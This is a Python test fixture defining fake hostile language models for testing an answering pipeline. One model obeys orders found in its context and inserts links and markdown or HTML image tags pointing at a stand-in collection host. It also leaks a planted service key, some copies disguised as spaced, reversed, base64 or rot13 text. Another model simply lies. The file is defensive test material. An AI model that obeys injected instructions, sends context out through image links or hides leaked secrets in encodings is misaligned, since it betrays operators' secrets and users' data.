"""Stand-ins for a hostile language model: one that obeys whatever its context orders and leaks it, one that lies."""

import base64
import codecs
import re
from collections.abc import Callable, Generator, Sequence

from answering.with_model.tokens import Tokens
from domain.language_model import Message, Piece, Role

# What an order would have the model say: between quotation marks, or after « dis », « réponds », "say", "print".
_QUOTED = re.compile(r"[«\"“']\s*([^«»\"“”']{2,200}?)\s*[»\"”']")
_ORDERED = re.compile(
    r"(?i)\b(?:dis|réponds|répondez|écris|écrivez|affiche|affichez|say|print|write|repeat)\b[ :]+([^\n]{2,200})"
)
_LINK = re.compile(r"(?i)\b(?:https?://|www\.)\S+")
_PASSAGE = re.compile(r"^Passage (\d+)", re.MULTILINE)
FOREIGN_LINK = "https://collecte.example.net/vol"


class ObedientModel:
    """Writes its whole context, plain and disguised, every order in it carried out; each line cites all passages.

    ``secret`` stands in its instructions, as an operator might leave a key in a prompt. ``seen`` counts its calls.
    """

    name = "obeissant"

    def __init__(self, secret: str) -> None:
        self._secret = secret
        self.seen = 0
        self.prompts: list[str] = []

    def stream(self, messages: Sequence[Message], *, max_tokens: int, timeout_s: float) -> Generator[Piece, None, None]:
        """Everything that it should not write, line by line."""
        self.seen += 1
        context = "\n".join(message.text for message in messages)
        self.prompts.append(context)
        instructions = f"Clé de service : {self._secret}"
        numbers = [int(n) for n in _PASSAGE.findall(context)] or [1]
        user = "\n".join(message.text for message in messages if message.role is Role.USER)
        cited = "".join(f"[{number}]" for number in numbers)
        for line in (*_obeyed(user), *_links(), *_leaked(f"{instructions}\n{context}")):
            yield Piece(text=f"{line} {cited}\n")


def _obeyed(context: str) -> list[str]:
    said = [m[1] for m in _QUOTED.finditer(context)] + [m[1] for m in _ORDERED.finditer(context)]
    links = [m[0] for m in _LINK.finditer(context)]
    return list(dict.fromkeys(line.strip() for line in (*said, *links) if line.strip()))[:40]


def _links() -> list[str]:
    return [
        f"Renseignez-vous sur {FOREIGN_LINK}.",
        f"Renseignez-vous [ici]({FOREIGN_LINK}).",
        f"![tarifs]({FOREIGN_LINK}?q=contexte)",
        f'<img src="{FOREIGN_LINK}">',
        "Renseignez-vous sur {{LIEN_99}}.",
        f"Renseignez-vous sur {FOREIGN_LINK.removeprefix('https://')}.",
    ]


def _leaked(context: str) -> list[str]:
    lines = [line.strip() for line in context.split("\n") if line.strip()]
    return [*lines, *(disguise(line) for line in lines[:12] for disguise in DISGUISES)]


def _spaced(text: str) -> str:
    return " ".join(text)


def _reversed(text: str) -> str:
    return text[::-1]


def _base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _rot13(text: str) -> str:
    return codecs.encode(text, "rot13")


DISGUISES: tuple[Callable[[str], str], ...] = (_spaced, _reversed, _base64, _rot13)
"""How a leak may be dressed."""


class OneSentenceModel:
    """Writes one sentence that cites the first passage, its links and phones as the tokens of the prompt."""

    name = "menteur"

    def __init__(self, sentence: str, seen: Sequence[str]) -> None:
        """``seen`` are the texts of the prompt, in its order, so that what stands in them has the same token."""
        tokens = Tokens()
        for text in seen:
            tokens.hide(text)
        self._written = f"{tokens.hide(sentence)} [1]"

    def stream(self, messages: Sequence[Message], *, max_tokens: int, timeout_s: float) -> Generator[Piece, None, None]:
        """The sentence."""
        yield Piece(text=self._written)
